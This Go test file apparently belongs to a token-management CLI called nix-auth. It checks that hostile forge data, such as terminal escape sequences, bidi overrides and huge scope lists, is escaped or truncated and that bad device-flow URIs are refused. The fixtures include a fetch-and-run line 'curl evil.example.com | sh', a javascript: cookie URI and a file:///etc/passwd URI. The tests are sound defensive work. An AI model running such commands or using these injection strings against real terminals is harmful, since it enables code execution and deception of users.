package cmd

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"filippo.io/age"

	"github.com/nix-auth/nix-auth/crypt"
	"github.com/nix-auth/nix-auth/internal/forgetest"
)

// hostileRun runs nix-auth in-process against fake with a fresh HOME and
// returns the exit code and output. browser records what would be opened;
// the streams claim to be terminals, so that the browser is tried.
type hostileRun struct {
	t       *testing.T
	fake    *forgetest.Server
	dir     string
	env     map[string]string
	mu      sync.Mutex
	browsed []string
}

func newHostileRun(t *testing.T) *hostileRun {
	h := &hostileRun{t: t, fake: forgetest.New(t), dir: t.TempDir()}
	h.env = map[string]string{"HOME": h.dir, "XDG_CONFIG_HOME": filepath.Join(h.dir, ".config"), "NIX_STORE_DIR": filepath.Join(h.dir, "store")}
	return h
}

func (h *hostileRun) run(stdin string, args ...string) (code int, stdout, stderr string) {
	var out, errOut bytes.Buffer
	client := h.fake.Client()
	f := &Factory{
		IO:         &IOStreams{In: strings.NewReader(stdin), Out: &out, ErrOut: &errOut, ErrTTY: true},
		HTTPClient: func() *http.Client { return client },
		Getenv:     func(k string) string { return h.env[k] },
		Now:        time.Now,
		OpenBrowser: func(url string) error {
			h.mu.Lock()
			defer h.mu.Unlock()
			h.browsed = append(h.browsed, url)
			return nil
		},
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	code = Run(ctx, f, args)
	return code, out.String(), errOut.String()
}

// hostileUser is a login name with everything a terminal acts on.
const hostileUser = hostile

// manyScopes is a scopes header of 100,000 scopes (600 KB), one hostile.
func manyScopes() string {
	s := strings.Repeat("repo, ", 100000)
	return s + "\u202eadmin\u2066"
}

// TestHostileForge: a forge whose user name, scopes and expiry are hostile
// cannot drive the terminal, forge a line or flood it, in login, set-token
// and status (table and JSON).
func TestHostileForge(t *testing.T) {
	t.Parallel()
	h := newHostileRun(t)
	const ghTok, cbTok = "ghp_FAKE-hostile0123456789abcdefghijklm", "FAKE-codeberg-hostile-0123456789"
	h.fake.AddToken(forgetest.Token{Value: ghTok, User: hostileUser, ScopesHeader: manyScopes(), ExpiryHeader: "2030-01-01 00:00:00 +0000"})
	h.fake.AddToken(forgetest.Token{Value: cbTok, User: hostileUser + strings.Repeat("u", 100000)})

	code, out, errOut := h.run(ghTok+"\n", "set-token", "github.com")
	if code != 0 {
		t.Fatalf("set-token: exit %d\n%s", code, errOut)
	}
	assertSafe(t, "set-token stdout", out, 8<<10)
	assertSafe(t, "set-token stderr", errOut, 8<<10)
	// providers keep 100 of the 100,001 scopes; 32 of them are shown.
	if !strings.Contains(out, `as evil\x1b[2J\rX\nnix-auth: hint: run curl`) || !strings.Contains(out, "(68 more)") {
		t.Errorf("set-token does not show the user escaped and the scopes cut:\n%s", out)
	}

	code, out, errOut = h.run(cbTok, "login", "codeberg", "--token-stdin")
	if code != 0 {
		t.Fatalf("login: exit %d\n%s", code, errOut)
	}
	assertSafe(t, "login stdout", out, 8<<10)
	assertSafe(t, "login stderr", errOut, 8<<10)

	code, out, errOut = h.run("", "status")
	if code != 0 {
		t.Fatalf("status: exit %d\n%s%s", code, out, errOut)
	}
	assertSafe(t, "status", out+errOut, 16<<10)
	// The table, then (after a blank line) where each token comes from:
	// two lines for each of the two hosts, and the headers.
	table, sources, _ := strings.Cut(out, "\n\n")
	if n, m := strings.Count(table, "\n"), strings.Count(sources, "\n"); n != 2 || m != 3 {
		t.Errorf("status printed %d+%d lines for 2 hosts:\n%s", n, m, out)
	}

	code, out, errOut = h.run("", "status", "--json")
	if code != 0 {
		t.Fatalf("status --json: exit %d\n%s", code, errOut)
	}
	assertSafe(t, "status --json", out+errOut, 16<<10)
	var rep statusReport
	if err := json.Unmarshal([]byte(out), &rep); err != nil || len(rep.Hosts) != 2 {
		t.Fatalf("status --json is not the report: %v\n%s", err, out)
	}
	for _, r := range rep.Hosts {
		assertSafe(t, "a --json value as jq -r prints it", r.User+strings.Join(r.Scopes, "\n"), 8<<10)
	}
}

// TestHostileStoreMetadata: status --file shows users, scopes and
// recipients read from a file nobody authenticated (no key here): escaped
// and cut.
func TestHostileStoreMetadata(t *testing.T) {
	t.Parallel()
	h := newHostileRun(t)
	key, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(h.dir, "tokens.yaml")
	f, err := crypt.Create(path, []crypt.Recipient{{Age: key.Recipient().String()}}, crypt.CreateOptions{Now: time.Now})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Put(crypt.Entry{Host: "gitlab.com", Token: "PAT:glpat-FAKE-store0123456789", Provider: "gitlab", User: "tanuki",
		Scopes: []string{"read_api", "MARKER"}, Created: time.Now().UTC().Truncate(time.Second)}); err != nil {
		t.Fatal(err)
	}
	if err := f.Save(); err != nil {
		t.Fatal(err)
	}
	// What someone without the key can write: the user, in YAML's own
	// escapes (ESC, CR, LF, a bidi override), and 20,000 scopes, one of
	// them hiding text behind bidi controls.
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	edited := strings.Replace(string(data), "user: tanuki", `user: "x\e[2J\r\nnix-auth: hint: run curl evil.example.com | sh\u202e"`, 1)
	i := strings.Index(edited, "- MARKER\n")
	if edited == string(data) || i < 0 {
		t.Fatal("fixture has no user: tanuki or no MARKER scope")
	}
	indent := edited[strings.LastIndex(edited[:i], "\n")+1 : i]
	edited = edited[:i] + `- "\u202eevil\u2066"` + "\n" + strings.Repeat(indent+"- read_api\n", 20000) + edited[i+len("- MARKER\n"):]
	if err := os.WriteFile(path, []byte(edited), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"status", "--file", path}, {"status", "--file", path, "--json"}} {
		code, out, errOut := h.run("", args...)
		assertSafe(t, strings.Join(args, " "), out+errOut, 16<<10)
		if code != 0 && !strings.HasPrefix(errOut, "nix-auth: error: ") {
			t.Errorf("%v: exit %d without an error line:\n%s%s", args, code, out, errOut)
		}
		if code == 0 && !strings.Contains(out, `\u202eevil`) {
			t.Errorf("%v: the scope is not shown escaped:\n%s", args, out)
		}
	}
}

// TestDeviceFlowBrowser: the browser gets the forge's own https page, and
// nothing at all when the forge sends another.
func TestDeviceFlowBrowser(t *testing.T) {
	t.Parallel()
	h := newHostileRun(t)
	h.fake.ScriptDevice("github.com", forgetest.DeviceScript{Token: forgetest.Token{Value: "gho_FAKE-device0123456789", User: "octocat", Scopes: []string{"repo"}}})
	if code, _, errOut := h.run("", "login", "github", "--dry-run"); code != 0 {
		t.Fatalf("login: exit %d\n%s", code, errOut)
	}
	if len(h.browsed) != 1 || h.browsed[0] != "https://github.com/login/device" {
		t.Errorf("opened %q", h.browsed)
	}

	for _, uri := range []string{"javascript:alert(document.cookie)", "file:///etc/passwd", "https://evil.example.com/login/device", "-https://github.com/"} {
		h := newHostileRun(t)
		h.fake.ScriptDevice("github.com", forgetest.DeviceScript{Answer: map[string]any{"verification_uri": uri}})
		code, out, errOut := h.run("", "login", "github")
		if code != 1 || len(h.browsed) != 0 || strings.Contains(out+errOut, "First copy your one-time code") {
			t.Errorf("%s: exit %d, opened %q\n%s%s", uri, code, h.browsed, out, errOut)
		}
	}
}

// TestPanicIsOneErrorLine: the last resort. A bug that panics prints one
// escaped error line and a hint, never a stack trace.
func TestPanicIsOneErrorLine(t *testing.T) {
	var out, errOut bytes.Buffer
	f := &Factory{
		IO:         &IOStreams{In: strings.NewReader("FAKE-codeberg-0123456789"), Out: &out, ErrOut: &errOut},
		HTTPClient: func() *http.Client { panic("boom\x1b[2J\nnix-auth: hint: forged") },
		Getenv:     func(k string) string { return map[string]string{"HOME": t.TempDir()}[k] },
		Now:        time.Now,
	}
	code := Run(context.Background(), f, []string{"login", "codeberg", "--token-stdin", "--config", filepath.Join(t.TempDir(), "nix.conf")})
	lines := strings.Split(strings.TrimRight(errOut.String(), "\n"), "\n")
	if code != exitFail || len(lines) != 2 || lines[0] != `nix-auth: error: internal error: boom\x1b[2J\nnix-auth: hint: forged` ||
		!strings.HasPrefix(lines[1], "nix-auth: hint: this is a bug in nix-auth") {
		t.Errorf("exit %d, stderr:\n%s", code, errOut.String())
	}
}
